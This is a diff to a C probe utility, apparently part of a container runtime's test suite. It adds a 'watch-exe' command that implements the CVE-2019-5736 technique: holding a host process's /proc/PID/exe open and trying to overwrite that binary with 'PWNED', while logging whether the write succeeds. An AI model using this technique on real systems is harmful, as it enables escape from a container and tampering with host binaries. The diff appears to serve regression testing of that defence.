@@ -44,6 +44,10 @@ static const char *errname(int e)
 		return "EEXIST";
 	case ENOTDIR:
 		return "ENOTDIR";
+	case ETXTBSY:
+		return "ETXTBSY";
+	case EBUSY:
+		return "EBUSY";
 	case 133:
 		return "EHWPOISON";
 	default:
@@ -106,6 +110,73 @@ static int fds(void)
 	if (d)
 		closedir(d);
 	return 0;
+}
+
+/* "put PATH TEXT": write TEXT into an existing file, print the errno name of the open or the write. */
+static int put(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC);
+	ssize_t n = fd < 0 ? -1 : write(fd, text, strlen(text));
+
+	printf("%s\n", errname(n < 0 ? errno : 0));
+	return 0;
+}
+
+/*
+ * CVE-2019-5736 watcher: wait for a process that is not one of the
+ * container's own binaries, hold its /proc/PID/exe open, and once it has
+ * exited try to open that file for writing and overwrite it.  Writes
+ * "exe LINK", "write-open ERR", "write ERR", "done" to the result file.
+ */
+static int watch_exe(const char *result, int seconds)
+{
+	FILE *outf = fopen(result, "we");
+
+	if (!outf)
+		return 2;
+	for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+
+		while (d && (e = readdir(d)) != NULL) {
+			char p[300], link[PATH_MAX];
+			int pid = atoi(e->d_name), fd, wfd;
+			ssize_t n;
+
+			if (pid <= 1 || pid == getpid())
+				continue;
+			snprintf(p, sizeof(p), "/proc/%d/exe", pid);
+			n = readlink(p, link, sizeof(link) - 1);
+			if (n <= 0)
+				continue; /* a non-dumpable runtime helper: no access */
+			link[n] = '\0';
+			if (!strcmp(link, "/probe") || !strcmp(link, "/bin/busybox"))
+				continue;
+			fd = open(p, O_RDONLY | O_CLOEXEC);
+			if (fd < 0)
+				continue;
+			/* the host binary is busy while it runs: wait for the process to go */
+			for (int i = 0; i < 5000 && kill(pid, 0) == 0; i++)
+				usleep(1000);
+			snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
+			wfd = open(p, O_WRONLY | O_CLOEXEC);
+			fprintf(outf, "exe %s\nwrite-open %s\n", link, errname(wfd < 0 ? errno : 0));
+			if (wfd >= 0) {
+				ssize_t w = pwrite(wfd, "PWNED", 5, 0);
+
+				fprintf(outf, "write %s\n", errname(w < 0 ? errno : 0));
+				close(wfd);
+			}
+			fprintf(outf, "done\n");
+			fclose(outf);
+			return 0;
+		}
+		if (d)
+			closedir(d);
+	}
+	fprintf(outf, "timeout\n");
+	fclose(outf);
+	return 1;
 }
 
 int main(int argc, char **argv)
@@ -337,6 +408,10 @@ int main(int argc, char **argv)
 		printf("allocated %zu\n", mb);
 		return 0;
 	}
+	if (!strcmp(cmd, "put") && argc > 3)
+		return put(argv[2], argv[3]);
+	if (!strcmp(cmd, "watch-exe") && argc > 3)
+		return watch_exe(argv[2], atoi(argv[3]));
 	fprintf(stderr, "probe: unknown command `%s`\n", cmd);
 	return 2;
 }
